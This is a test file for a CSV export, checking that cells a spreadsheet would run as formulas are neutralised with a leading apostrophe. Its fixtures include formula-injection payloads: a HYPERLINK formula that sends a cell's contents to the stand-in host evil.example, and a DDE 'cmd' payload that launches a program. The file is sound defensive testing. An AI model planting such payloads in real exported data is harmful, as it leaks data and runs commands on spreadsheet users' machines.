import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { exportCsv } from '../../commands/partner.js';
import { ManualClock } from '../../src/core/clock.js';
import { toCsv } from '../../src/core/csv.js';
import { eachDatabase, servicesOn } from '../support/helpers.js';

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

test('CSV cells that a spreadsheet would run as a formula are neutralised with an apostrophe; other cells and numbers stay as they are', () => {
  const rows = [...FORMULAS, 'plain', 'a=b', 'ok - fine', ''].map((value, i) => ({ id: i - 1, value }));
  const back = parse(toCsv(rows, ['id', 'value']), { columns: true }) as { id: string; value: string }[];
  assert.deepEqual(
    back.map((r) => r.value),
    [...FORMULAS.map((f) => `'${f}`), 'plain', 'a=b', 'ok - fine', ''],
  );
  assert.equal(back[0]!.id, '-1', 'a number is a number, even a negative one');
  for (const r of back) assert.doesNotMatch(r.value, /^[=+\-@\t\r＝]/);
});

test('/partner export carries what proposers typed as text, never as a formula', (t) =>
  eachDatabase(t, async ({ target }) => {
    const { db, services } = await servicesOn(target, new ManualClock(new Date('2027-01-10T12:00:00Z')));
    try {
      await services.chapters.create({ name: 'Berlin', timeZone: 'Europe/Berlin' });
      const proposer = { platform: 'discord', workspace: 'G1', id: 'U-eve', name: '@eve' };
      await services.partnerships.propose({
        proposer,
        chapter: 'berlin',
        partner: FORMULAS[0]!,
        event: FORMULAS[1]!,
        details: FORMULAS[3]!,
        date: { year: 2027, month: 3, day: 14 },
        contributions: 'coaches',
      });
      const csv = exportCsv(await services.partnerships.list({ chapter: 'Berlin' }));
      const [row] = parse(csv, { columns: true }) as Record<string, string>[];
      assert.equal(row!.partner, `'${FORMULAS[0]}`);
      assert.equal(row!.event, `'${FORMULAS[1]}`);
      assert.equal(row!.details, `'${FORMULAS[3]}`);
      assert.equal(row!.proposer, "'@eve");
      for (const line of csv.split('\n')) for (const cell of line.split(',')) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+@]/);
    } finally {
      await db.destroy();
    }
  }));
